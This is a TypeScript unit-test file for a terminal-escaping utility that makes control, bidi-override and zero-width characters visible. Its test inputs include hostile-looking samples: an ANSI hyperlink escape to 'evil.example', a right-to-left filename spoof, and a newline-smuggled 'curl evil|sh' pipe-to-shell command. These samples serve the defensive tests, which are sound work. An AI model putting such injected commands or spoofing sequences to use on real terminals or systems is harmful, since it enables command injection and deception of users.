import { test } from 'node:test';
import assert from 'node:assert/strict';
import { escapeTerminal, escapeTerminalLine, hasControlCharacter } from './escape.js';

void test('escapeTerminal shows C0 (but TAB, LF), DEL, C1, bidi and zero-width characters', () => {
  const cases: [string, string][] = [
    ['', ''],
    ['plain text', 'plain text'],
    ['naïve ✓ 日本 café', 'naïve ✓ 日本 café'],
    ['tab\tand\nnewline', 'tab\tand\nnewline'],
    ['\x1b[31mred\x1b[0m', '^[[31mred^[[0m'],
    ['over\rwrite', 'over\\rwrite'],
    ['\r\n', '\\r\n'],
    ['\x1b\x1b\r\r', '^[^[\\r\\r'],
    ['\x00nul \x07bell \x08bs \x0bvt \x0cff \x1fus', '^@nul ^Gbell ^Hbs ^Kvt ^Lff ^_us'],
    ['del\x7f', 'del^?'],
    ['\x9b31mC1 CSI', '\\u009b31mC1 CSI'],
    ['\x9d0;title\x9c', '\\u009d0;title\\u009c'],
    ['\x80\x85\x9f', '\\u0080\\u0085\\u009f'],
    ['\x1b]8;;http://evil.example\x07click\x1b]8;;\x07', '^[]8;;http://evil.example^Gclick^[]8;;^G'],
    ['admin\u202egnp.exe', 'admin\\u202egnp.exe'],
    ['\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u061c', '\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069\\u061c'],
    ['zero\u200bwidth\u200c\u200d\u200e\u200f\ufeff', 'zero\\u200bwidth\\u200c\\u200d\\u200e\\u200f\\ufeff'],
    ['line\u2028sep\u2029', 'line\\u2028sep\\u2029'],
    ['word\u2060joiner', 'word\\u2060joiner'],
    ['a;b|c$(d)`e`\'f"g', 'a;b|c$(d)`e`\'f"g'],
  ];
  for (const [input, want] of cases) assert.equal(escapeTerminal(input), want, JSON.stringify(input));
});

void test('escapeTerminalLine also shows TAB and LF, so the text stays on one line', () => {
  const cases: [string, string][] = [
    ['one line', 'one line'],
    ['a\tb', 'a^Ib'],
    ['node-1\ncurl evil|sh', 'node-1^Jcurl evil|sh'],
    ['\r\n\x1b\u202e', '\\r^J^[\\u202e'],
  ];
  for (const [input, want] of cases) {
    const got = escapeTerminalLine(input);
    assert.equal(got, want, JSON.stringify(input));
    assert.equal(hasControlCharacter(got), false, JSON.stringify(got));
  }
});

void test('hasControlCharacter finds every character the escape rewrites, and only those', () => {
  for (let code = 0; code <= 0xffff; code++) {
    if (code >= 0xd800 && code <= 0xdfff) continue;
    const c = String.fromCharCode(code);
    assert.equal(hasControlCharacter(c), escapeTerminalLine(c) !== c, `U+${code.toString(16)}`);
    if (c !== '\t' && c !== '\n') assert.equal(escapeTerminal(c), escapeTerminalLine(c), `U+${code.toString(16)}`);
  }
  assert.equal(hasControlCharacter('plain-name.example'), false);
  assert.equal(hasControlCharacter('x\ny'), true);
});
